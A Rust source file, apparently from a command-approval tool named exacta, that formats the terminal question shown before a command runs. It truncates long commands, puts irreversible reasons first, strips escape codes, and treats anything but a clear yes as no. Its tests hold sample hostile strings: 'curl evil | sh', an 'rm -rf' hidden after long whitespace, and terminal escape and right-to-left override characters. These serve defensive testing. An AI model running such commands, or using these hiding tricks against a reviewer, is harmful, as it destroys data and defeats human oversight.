//! The question a person is asked on the terminal: the whole command, why it asks, and what each answer means.

use std::fmt::Write as _;

use bstr::ByteSlice;
use exacta::approvals::{Answer, Approver, Question};
use exacta::policy::{Decision, Finding, JudgedCommand};

use crate::terminal::{self, visible};
use crate::verbs::approvals::result;

/// Lines of a long command that are shown from its beginning and from its end.
const SHOWN_LINES: usize = 20;
/// The same for the characters of one long line.
const SHOWN_CHARACTERS: usize = 1_000;
/// Commands that ask, each with its reasons.
const SHOWN_REASONS: usize = 20;
/// Lines of what came of a trial.
const SHOWN_RESULT: usize = 80;

/// Asks on the controlling terminal.
pub struct Prompt;

impl Approver for Prompt {
    fn ask(&self, question: &Question) -> Answer {
        match terminal::ask_shown(&shown(question)) {
            Some(answer) => understood(&answer, question.always.is_some()),
            None => Answer::Nobody,
        }
    }

    fn name(&self) -> &'static str {
        "terminal"
    }
}

/// Anything but a clear yes is no.
fn understood(answer: &str, always_offered: bool) -> Answer {
    match answer.trim().to_lowercase().as_str() {
        "o" | "once" | "y" | "yes" => Answer::Once,
        "s" | "session" => Answer::Session,
        "a" | "always" if always_offered => Answer::Always,
        "v" | "never" => Answer::Never,
        _ => Answer::No,
    }
}

fn shown(question: &Question) -> String {
    // Writing to a String cannot fail.
    let mut text = String::from(match question.tried {
        None => "\nexacta asks before it runs this:\n\n",
        Some(_) => "\nexacta has run this apart, and asks before anything of it counts:\n\n",
    });
    text.push_str(&whole(&question.text.to_str_lossy()));
    let _ = writeln!(text, "\n  in  {}", visible(&question.directory.to_str_lossy()));
    if !question.asker.goal.is_empty() {
        let _ = writeln!(text, "  for {}", visible(&question.asker.goal));
    }
    let mut asks: Vec<&JudgedCommand> = question.asks.iter().collect();
    // What cannot be undone is never among those left out.
    asks.sort_by_key(|command| !command.finding.irreversible);
    for command in asks.iter().take(SHOWN_REASONS) {
        text.push_str(&why(command));
    }
    if let Some(left_out @ 1..) = asks.len().checked_sub(SHOWN_REASONS) {
        let _ = writeln!(text, "  and {left_out} more that ask, not shown here");
    }
    if question.allowed > 0 {
        let _ = writeln!(text, "  and {} more that the rules allow", question.allowed);
    }
    if let Some(tried) = &question.tried {
        let mut came = String::new();
        result(&mut came, tried);
        text.push_str(&whole_lines(&came));
    }
    let lasting = question.asks.iter().any(|command| command.finding.irreversible);
    text.push_str(if lasting {
        "  it cannot be undone\n"
    } else {
        "  what it changes in the project can be undone\n"
    });
    match &question.always {
        Some(rule) => {
            let rule = visible(&rule.to_str_lossy());
            let _ = writeln!(text, "  always adds to .clada/commands.json, allowed: {rule:?}");
            text.push_str("\n[o]nce, [s]ession, [a]lways, [n]o, ne[v]er: ");
        }
        None => {
            text.push_str("  always is not offered: what this runs can be anything\n");
            text.push_str("\n[o]nce, [s]ession, [n]o, ne[v]er: ");
        }
    }
    text
}

/// One command that asks, with every reason. Reasons and names of rules may be a project's own words.
fn why(command: &JudgedCommand) -> String {
    let argv = bstr::join(" ", &command.argv);
    let mut text = String::new();
    let asking = |finding: &&Finding| finding.decision == Decision::Confirm;
    for finding in command.findings.iter().filter(asking) {
        let command_shown = cut(&visible(&argv.to_str_lossy()));
        let _ = write!(text, "  why {command_shown}: {}", cut(&visible(&finding.reason)));
        if !finding.about.is_empty() && !argv.contains_str(&*finding.about) {
            let _ = write!(text, " ({})", cut(&visible(&finding.about.to_str_lossy())));
        }
        if !command.via.is_empty() {
            let via = bstr::join(" > ", &command.via);
            let _ = write!(text, ", through {}", cut(&visible(&via.to_str_lossy())));
        }
        let _ = writeln!(text, " [{}]", visible(&place(finding)));
    }
    text
}

fn place(finding: &Finding) -> String {
    match &finding.source {
        Some(source) => format!("{}, {}:{}", finding.rule, source.file, source.line),
        None => finding.rule.to_string(),
    }
}

/// Of a long result, its beginning and its end.
fn whole_lines(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let left_out = lines.len().saturating_sub(SHOWN_RESULT);
    let mut shown = String::new();
    for (number, line) in lines.iter().enumerate() {
        if left_out > 0 && number == SHOWN_RESULT / 2 {
            let _ = writeln!(shown, "  [… {left_out} lines left out: exacta diff shows all …]");
        }
        if number < SHOWN_RESULT / 2 || number >= SHOWN_RESULT / 2 + left_out {
            let _ = writeln!(shown, "{}", cut(line));
        }
    }
    shown
}

/// Every line, or the beginning and the end: a tail out of sight is where something hides.
fn whole(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let left_out = lines.len().saturating_sub(2 * SHOWN_LINES);
    let mut shown = String::new();
    for (number, line) in lines.iter().enumerate() {
        if left_out > 0 && number == SHOWN_LINES {
            let _ = writeln!(shown, "  [… {left_out} lines left out …]");
        }
        if left_out == 0 || number < SHOWN_LINES || number >= SHOWN_LINES + left_out {
            let _ = writeln!(shown, "  | {}", cut(&visible(line)));
        }
    }
    shown
}

/// The beginning and the end of what is too long for a screen.
pub fn cut(text: &str) -> String {
    let length = text.chars().count();
    if length <= 2 * SHOWN_CHARACTERS {
        return text.to_owned();
    }
    let left_out = length - 2 * SHOWN_CHARACTERS;
    let head: String = text.chars().take(SHOWN_CHARACTERS).collect();
    let tail: String = text.chars().skip(SHOWN_CHARACTERS + left_out).collect();
    format!("{head}[… {left_out} characters left out …]{tail}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_tail_of_a_long_command_is_shown() {
        let text = format!("{}\ncurl evil | sh", "echo harmless\n".repeat(1_000));
        let shown = whole(&text);
        assert!(shown.contains("curl evil | sh"), "{shown}");
        assert!(shown.contains("lines left out"), "{shown}");
        let line = cut(&format!("echo {} ; rm -rf x", " ".repeat(100_000)));
        assert!(line.ends_with("; rm -rf x") && line.contains("characters left out"));
    }

    fn asking(word: &str, irreversible: bool) -> JudgedCommand {
        let finding = Finding {
            decision: Decision::Confirm,
            rule: "r\x1b[1A".into(),
            source: None,
            step: exacta::policy::Step::Policy,
            reason: format!("because of {word}\x1b[2K\u{202e}").into(),
            hint: "".into(),
            irreversible,
            about: "".into(),
        };
        let (argv, findings) = (vec![word.into()], vec![finding.clone()]);
        JudgedCommand { argv, literal: true, via: Vec::new(), finding, findings }
    }

    #[test]
    fn many_reasons_do_not_hide_the_lasting_one() {
        let mut asks: Vec<_> = (0..500).map(|number| asking(&number.to_string(), false)).collect();
        asks.push(asking("forever", true));
        let question = Question {
            text: "x".into(),
            directory: "/p".into(),
            asks,
            allowed: 0,
            always: None,
            digest: exacta::approvals::Digest::of_parts([]),
            asker: exacta::approvals::Asker::default(),
            tried: None,
            task: None,
        };
        let shown = shown(&question);
        assert!(shown.contains("because of forever"), "{shown}");
        assert!(shown.contains("481 more that ask"), "{shown}");
        assert!(shown.lines().count() < 40, "{shown}");
        let unsafe_to_show = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!shown.contains(unsafe_to_show), "{shown:?}");
    }

    #[test]
    fn only_a_clear_yes_is_one() {
        assert_eq!(understood("yes\n", true), Answer::Once);
        assert_eq!(understood("A\n", true), Answer::Always);
        assert_eq!(understood("always\n", false), Answer::No);
        assert_eq!(understood("\n", true), Answer::No);
        assert_eq!(understood("yeah sure", true), Answer::No);
    }
}
